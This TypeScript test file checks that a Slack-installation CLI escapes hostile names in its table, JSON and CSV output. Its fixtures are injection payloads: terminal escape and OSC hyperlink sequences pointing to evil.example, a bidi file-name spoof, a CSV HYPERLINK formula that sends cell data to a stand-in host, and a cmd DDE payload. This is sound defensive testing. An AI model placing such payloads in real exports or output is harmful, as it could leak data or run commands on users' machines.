// What the operator's command line writes out when Slack-supplied names are hostile: every format (the `list`
// table, `show`, JSON for `list --json`/`show --json`/`export --format json`, and CSV for `export --format csv`).
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { installationDetails, installationsTable, toCsv, toJson, toView } from '../src/cli/format.js';
import type { InstallationRecord } from '../src/store/types.js';

const ESC = '\u001b';
const BEL = '\u0007';
const CSI = '\u009b'; // a C1 control: one character that a terminal takes as ESC [
const RLO = '\u202e'; // right-to-left override: makes "gpj.exe" read as "exe.jpg"

/** Names as a hostile or broken "Slack" could send them: terminal escapes, an OSC hyperlink, bidi, formulas. */
const HOSTILE = {
  teamName: `Acme${ESC}[2J${ESC}]8;;https://evil.example${BEL}click${ESC}]8;;${BEL}`,
  channelName: `#ops${CSI}31m${RLO}txt.exe`,
  enterpriseName: `=HYPERLINK("http://evil/?"&A1,"x")`,
  revokedReason: `+cmd|' /C calc'!A0`,
};

function record(overrides: Partial<InstallationRecord> = {}): InstallationRecord {
  return {
    id: 1,
    teamId: 'T1',
    teamName: HOSTILE.teamName,
    enterpriseId: 'E1',
    enterpriseName: HOSTILE.enterpriseName,
    isEnterpriseInstall: false,
    channelId: 'C1',
    channelName: HOSTILE.channelName,
    webhookUrl: 'https://hooks.slack.com/services/T1/B1/secretpart',
    configurationUrl: null,
    appId: 'A1',
    botUserId: 'UBOT',
    botToken: 'xoxb-1-secret',
    scopes: ['incoming-webhook'],
    installerUserId: '@SUM(1+1)*cmd|x',
    installedAt: new Date('2026-01-01T00:00:00Z'),
    revokedAt: new Date('2026-01-02T00:00:00Z'),
    revokedReason: HOSTILE.revokedReason,
    ...overrides,
  };
}

/** Any character that drives a terminal or reorders text: C0 (but the line breaks between rows), DEL, C1, bidi. */
// eslint-disable-next-line no-control-regex -- finding control characters is the point
const RAW_CONTROL = /[\u0000-\u0009\u000b\u000c\u000e-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;

test('every CLI output format writes no control character or bidi override, only visible escapes', () => {
  const r = record();
  const outputs: Record<string, string> = {
    table: installationsTable([r], false),
    'table --reveal': installationsTable([r], true),
    show: installationDetails(r, false),
    json: toJson([toView(r, false)]),
    csv: toCsv([toView(r, true)]),
  };
  for (const [format, out] of Object.entries(outputs)) {
    assert.doesNotMatch(out, RAW_CONTROL, `${format} writes a raw control character`);
    if (format !== 'json') {
      assert.ok(out.includes('Acme\\u001b[2J\\u001b]8;;https://evil.example\\u0007click'), `${format}: ESC, OSC, BEL`);
      assert.ok(out.includes('#ops\\u009b31m\\u202etxt.exe'), `${format}: U+009B and U+202E shown escaped`);
    }
  }
});

test('JSON output escapes C1 controls and bidi overrides as \\uXXXX and still parses to the stored value', () => {
  const r = record();
  const json = toJson([toView(r, false)]);
  assert.ok(json.includes('"channelName": "#ops\\u009b31m\\u202etxt.exe"'), json);
  assert.ok(json.includes('"teamName": "Acme\\u001b[2J\\u001b]8;;https://evil.example\\u0007click'), json);
  const [parsed] = JSON.parse(json) as Array<Record<string, unknown>>;
  assert.equal(parsed!.channelName, HOSTILE.channelName, 'the escapes are JSON escapes: the value is unchanged');
  assert.equal(parsed!.teamName, HOSTILE.teamName);
});

test('CSV cells that a spreadsheet would run as a formula start with a quote (=, +, -, @, tab, CR)', () => {
  const cells = ['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx', 'plain', '#general', '1-2'];
  const csv = toCsv(
    cells.map((name, i) =>
      toView(record({ id: i + 1, channelName: name, enterpriseName: null, revokedReason: null }), false),
    ),
  );
  const channelCells = csv
    .trimEnd()
    .split('\r\n')
    .slice(1)
    .map((row) => row.split(',')[8]);
  assert.deepEqual(channelCells, ["'=1+1", "'+1", "'-1", "'@SUM(A1)", "'\\tx", "'\\rx", 'plain', '#general', '1-2']);

  const full = toCsv([toView(record(), true)]);
  assert.ok(full.includes(`"'=HYPERLINK(""http://evil/?""&A1,""x"")"`), 'a quoted formula is neutralised too');
  assert.ok(full.includes(`'+cmd|' /C calc'!A0`));
  assert.ok(full.includes(`'@SUM(1+1)*cmd|x`));
  for (const cell of full.split(/,|\r\n/)) assert.doesNotMatch(cell, /^"?[=+\-@\t\r]/, `cell ${cell}`);
});
